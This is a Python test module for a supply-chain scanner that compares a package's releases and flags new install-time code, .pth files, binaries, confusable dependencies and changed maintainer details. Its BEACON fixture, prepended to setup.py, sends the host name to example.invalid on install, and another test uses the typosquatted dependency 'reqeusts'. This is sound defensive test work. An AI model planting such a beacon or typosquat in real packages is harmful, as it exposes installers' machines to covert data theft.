"""Release history: tiny sdists built here, compared release to release."""

from __future__ import annotations

import io
import tarfile

from snakewarden.analysis import analyze, judge
from snakewarden.artifacts import read_artifact
from snakewarden.core.models import Finding, Verdict
from snakewarden.history import ReleaseSnapshot, compare, snapshot
from snakewarden.history.compare import IDENTITY_BUDGET
from snakewarden.names import NameChecker

NAMES = NameChecker(["requests", "numpy", "urllib3", "attrs", "colorama"])

SETUP = "from setuptools import setup\n\nsetup(name={name!r}, version={version!r})\n"
MODULE = "def add(a, b):\n    return a + b\n"
#: Inert install-time code written for these tests: a host-name beacon to example.invalid.
BEACON = (
    "import socket\nimport urllib.request\n\n"
    "urllib.request.urlopen('https://example.invalid/p?h=' + socket.gethostname())\n"
)


def pkg_info(name: str, version: str, **fields: str) -> str:
    lines = ["Metadata-Version: 2.1", f"Name: {name}", f"Version: {version}"]
    lines += [f"{key.replace('_', '-')}: {value}" for key, value in fields.items()]
    return "\n".join(lines) + "\n\nA small library.\n"


def sdist(name: str, version: str, files: dict[str, str | bytes]) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
        for path, content in files.items():
            data = content.encode() if isinstance(content, str) else content
            info = tarfile.TarInfo(f"{name}-{version}/{path}")
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def release(name: str, version: str, files: dict[str, str | bytes], **fields: str):  # type: ignore[no-untyped-def]
    files = {"PKG-INFO": pkg_info(name, version, **fields), **files}
    artifact = read_artifact(sdist(name, version, files), f"{name}-{version}.tar.gz")
    result = analyze(artifact, target=f"{name}=={version}")
    return artifact, result, snapshot(artifact, result)


def base_files(version: str) -> dict[str, str | bytes]:
    return {
        "setup.py": SETUP.format(name="tinycalc", version=version),
        "tinycalc/__init__.py": MODULE,
    }


IDENTITY = {
    "Author": "Ann Example",
    "Author_email": "ann@example.org",
    "Home_page": "https://example.org/tinycalc",
    "Requires_dist": "attrs",
}


def history_of(*versions: str) -> list[ReleaseSnapshot]:
    return [release("tinycalc", v, base_files(v), **IDENTITY)[2] for v in versions]


def categories(findings: list[Finding]) -> set[str]:
    return {f.category for f in findings}


def test_no_earlier_release_means_nothing_to_compare() -> None:
    _, _, current = release("tinycalc", "1.0", base_files("1.0"))
    assert compare([], current) == []
    assert compare([current], current) == []


def test_a_normal_release_with_many_changes_stays_clean() -> None:
    files = base_files("2.0")
    files["tinycalc/__init__.py"] = MODULE + "from tinycalc.fmt import fmt\n"
    files["tinycalc/fmt.py"] = "def fmt(x):\n    return f'{x:.2f}'\n"
    files["tinycalc/cli.py"] = (
        "import subprocess\n\ndef pager(text):\n    subprocess.run(['less'], input=text)\n"
    )
    files["docs/index.md"] = "# tinycalc\n"
    _, result, current = release("tinycalc", "2.0", files, **{**IDENTITY, "Requires_dist": "numpy"})
    findings = compare(history_of("1.0", "1.1", "1.2"), current, names=NAMES)
    assert "history.install-code.new" not in categories(findings)
    assert judge([*result.findings, *findings])[1] is Verdict.CLEAN


def test_new_install_time_code_in_an_old_project_is_malicious() -> None:
    files = base_files("1.3")
    files["setup.py"] = BEACON + files["setup.py"]  # type: ignore[operator]
    _, result, current = release("tinycalc", "1.3", files, **IDENTITY)
    findings = compare(history_of("1.0", "1.1", "1.2"), current, names=NAMES)
    new_code = [f for f in findings if f.category == "history.install-code.new"]
    assert new_code
    assert "setup.py" in new_code[0].message
    assert new_code[0].file.endswith("setup.py")
    assert "3 earlier release(s)" in new_code[0].message
    with_history = judge([*result.findings, *findings])
    assert with_history[1] is Verdict.MALICIOUS
    assert with_history[0] > result.score


def test_a_capability_the_project_always_had_at_install_is_not_new() -> None:
    def with_beacon(version: str) -> dict[str, str | bytes]:
        files = base_files(version)
        files["setup.py"] = BEACON + files["setup.py"]  # type: ignore[operator]
        return files

    previous = [release("tinycalc", v, with_beacon(v), **IDENTITY)[2] for v in ("1.0", "1.1")]
    _, _, current = release("tinycalc", "1.2", with_beacon("1.2"), **IDENTITY)
    assert "history.install-code.new" not in categories(compare(previous, current))


def test_new_pth_binary_and_confusable_dependency() -> None:
    files = base_files("1.3")
    files["tinycalc.pth"] = "tinycalc\n"
    files["tinycalc/helper.exe"] = b"MZ\x90\x00" + b"\x00" * 60
    _, _, current = release("tinycalc", "1.3", files, **{**IDENTITY, "Requires_dist": "reqeusts"})
    findings = compare(history_of("1.2"), current, names=NAMES)
    found = categories(findings)
    assert {"history.pth.new", "history.binary.new", "history.dependency.confusable"} <= found
    confusable = next(f for f in findings if f.category == "history.dependency.confusable")
    assert "requests" in confusable.message


def test_plain_new_dependencies_weigh_little() -> None:
    _, _, current = release(
        "tinycalc", "1.3", base_files("1.3"), **{**IDENTITY, "Requires_dist": "obscure-dep"}
    )
    findings = compare(history_of("1.2"), current, names=NAMES)
    new = [f for f in findings if f.category == "history.dependency.new"]
    assert new
    assert new[0].weight <= 0.15


def test_changed_people_mail_and_urls_are_capped() -> None:
    _, _, current = release(
        "tinycalc",
        "1.3",
        base_files("1.3"),
        Author="Mallory",
        Author_email="m@elsewhere.example",
        Home_page="https://elsewhere.example/x",
        Requires_dist="attrs",
    )
    findings = compare(history_of("1.1", "1.2"), current, names=NAMES)
    identity = [f for f in findings if f.category.startswith("history.identity")]
    assert {f.category for f in identity} == {
        "history.identity.people",
        "history.identity.email",
        "history.identity.urls",
    }
    clean = 1.0
    for f in identity:
        clean *= 1.0 - f.weight
    assert 1.0 - clean <= IDENTITY_BUDGET + 1e-9
    assert judge(findings)[1] is Verdict.CLEAN


def test_the_order_of_earlier_releases_does_not_matter() -> None:
    files = base_files("1.3")
    files["setup.py"] = BEACON + files["setup.py"]  # type: ignore[operator]
    _, _, current = release("tinycalc", "1.3", files, Author="Someone Else")
    earlier = history_of("1.0", "1.1", "1.2")
    forward = compare(earlier, current, names=NAMES)
    backward = compare(list(reversed(earlier)), current, names=NAMES)
    assert sorted(forward, key=repr) == sorted(backward, key=repr)
